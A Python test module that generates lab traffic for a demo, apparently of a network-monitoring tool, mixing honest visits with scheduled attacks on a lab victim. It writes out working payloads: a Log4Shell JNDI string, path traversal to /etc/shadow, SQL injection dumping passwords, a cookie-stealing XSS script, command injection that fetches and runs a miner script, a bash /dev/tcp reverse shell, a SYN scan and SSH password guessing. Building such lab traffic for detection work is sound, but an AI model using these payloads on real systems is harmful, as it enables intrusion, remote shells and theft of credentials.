"""What happens on the lab's wire: honest visitors, and every attack the demo shows, made with real tools."""

from __future__ import annotations

import subprocess
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

from tests.lab.lab import (
    GUESSER,
    INTRUDER,
    LOOT_PORT,
    MIRROR,
    SCANNER,
    SHELL_PORT,
    VICTIM,
    VISITOR,
    Lab,
)
from tests.lab.wire import IFACE

JNDI = f"${{jndi:ldap://{INTRUDER}:1389/Basic/Command/whoami}}"
TYPING_S = 0.4
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def log4shell(lab: Lab) -> None:
    """A look-up string where a logger would write it."""
    lab.fetch(INTRUDER, "/", "-H", f"User-Agent: {JNDI}")


def traversal(lab: Lab) -> None:
    """A file from outside the download folder."""
    lab.fetch(INTRUDER, "/download?name=../../../../../../etc/shadow")
    lab.fetch(INTRUDER, "/download?name=../passwd")


def sql_injection(lab: Lab) -> None:
    """The table of users through the page of a product."""
    lab.fetch(INTRUDER, "/product?id=1'%20OR%20'1'='1")
    lab.fetch(INTRUDER, "/product?id=1'%20UNION%20SELECT%20name,password%20FROM%20users--%20")


def cross_site_scripting(lab: Lab) -> None:
    """A search whose words are a script."""
    lab.fetch(INTRUDER, f"/search?q=<script>document.location='http://{INTRUDER}/?c='%2Bdocument.cookie</script>")


def download_and_run(lab: Lab) -> subprocess.Popen[str]:
    """A command behind an address: the shop fetches a script and runs it."""
    command = f"127.0.0.1;wget%20-qO-%20http://{INTRUDER}:{LOOT_PORT}/miner.sh%20|%20sh"
    return _ask(lab, f"/ping?host={command}")


def reverse_shell(lab: Lab) -> list[subprocess.Popen[str]]:
    """A shell of the shop's that answers to the intruder."""
    waiting = lab.start_outside("nc", "-l", "-s", INTRUDER, "-p", str(SHELL_PORT), stdin=subprocess.PIPE)
    command = f"127.0.0.1;bash%20-c%20'bash%20-i%20>%26%20/dev/tcp/{INTRUDER}/{SHELL_PORT}%200>%261'"
    asked = _ask(lab, f"/ping?host={command}")
    assert waiting.stdin is not None
    for line in ("id", "pwd", "cat files/terms.txt", "exit"):
        time.sleep(TYPING_S)
        waiting.stdin.write(line + "\n")
        waiting.stdin.flush()
    return [asked, waiting]


def scan(lab: Lab) -> None:
    """The hundred most common ports in a moment."""
    lab.run_outside("nmap", "-S", SCANNER, "-e", IFACE, "-sS", "-Pn", "-n", "-T5", "--top-ports", "100", VICTIM)


def guess_passwords(lab: Lab, times: int = 12) -> None:
    """Wrong passwords for root, over one connection each."""
    client = ["ssh", "-b", GUESSER, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
    client += ["-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-F", "none", f"root@{VICTIM}"]
    for number in range(times):
        lab.run_outside("sshpass", "-p", f"letmein{number}", *client, "true")


def browse(lab: Lab, stop: threading.Event) -> None:
    """A visitor who looks around until told to stop."""
    pages = ("/", "/style.css", "/about.html", "/product?id=1", "/search?q=green%20tea", "/download?name=terms.txt")
    while not stop.is_set():
        for page in pages:
            lab.fetch(VISITOR, page, "-A", BROWSER)
            if stop.wait(0.15):
                return


def clone(lab: Lab) -> None:
    """A developer clones the shop's repository; programs that name no address of their own use the developer's."""
    with tempfile.TemporaryDirectory() as folder:
        lab.run_outside("git", "clone", "-q", f"http://{VICTIM}/kettle.git", str(Path(folder) / "kettle"))


def upgrade(lab: Lab) -> None:
    """The victim fetches a package."""
    package = f"http://{MIRROR}/kettle_1.2_amd64.deb"
    lab.start_inside("curl", "-s", "-o", "/dev/null", "-A", "Debian APT-HTTP/1.3 (2.6.1)", package).wait(20)


SCHEDULE: tuple[tuple[float, Callable[[Lab], object]], ...] = (
    (0.3, upgrade),
    (0.6, clone),
    (1.2, log4shell),
    (2.2, traversal),
    (3.0, sql_injection),
    (3.8, cross_site_scripting),
    (4.4, download_and_run),
    (5.4, reverse_shell),
    (6.4, guess_passwords),
    (7.6, scan),
    (9.0, upgrade),
)
"""Seconds after the start of the demo, and what begins then."""


def _ask(lab: Lab, path: str) -> subprocess.Popen[str]:
    """Send a request and wait for no answer: the command it carries runs on."""
    url = f"http://{VICTIM}{path}"
    return lab.start_outside("curl", "-s", "-g", "--path-as-is", "-m", "20", "--interface", INTRUDER, url)
